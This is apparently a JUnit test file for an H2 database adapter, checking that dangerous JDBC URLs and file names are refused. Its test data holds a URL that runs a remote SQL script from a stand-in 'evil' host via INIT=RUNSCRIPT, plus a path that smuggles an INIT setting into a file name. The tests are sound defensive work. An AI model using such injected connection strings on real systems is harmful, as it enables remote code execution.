package org.cloudmigration.service.database.h2;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Path;
import org.cloudmigration.service.database.DatabaseLocation;
import org.cloudmigration.service.database.DatabaseType;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class H2LocationTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:file:/x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:h2:tcp://host/x",
        "jdbc:h2:mem:x",
        "jdbc:h2:file:/x;AUTO_SERVER=TRUE",
        "jdbc:h2:file:/x;WRITE_DELAY=0;INIT=x",
        "jdbc:postgresql://x/y"
      })
  void addressesThatCouldRunCodeOrOpenPortsAreRefused(String url) {
    var location = new DatabaseLocation(DatabaseType.H2, url, "sa", "");
    assertThatThrownBy(() -> new H2Adapter().open(location, 1))
        .isInstanceOf(IllegalArgumentException.class);
  }

  @Test
  void aFileNameCannotBringSettingsAlong() {
    Path sly = Path.of("/tmp/x;INIT=RUNSCRIPT");
    assertThatThrownBy(() -> H2Location.file(sly)).isInstanceOf(IllegalArgumentException.class);
  }

  @Test
  void commitsAreInTheFileWhenTheyReturn() {
    assertThat(H2Location.file(Path.of("x")).url()).contains("WRITE_DELAY=0");
  }
}
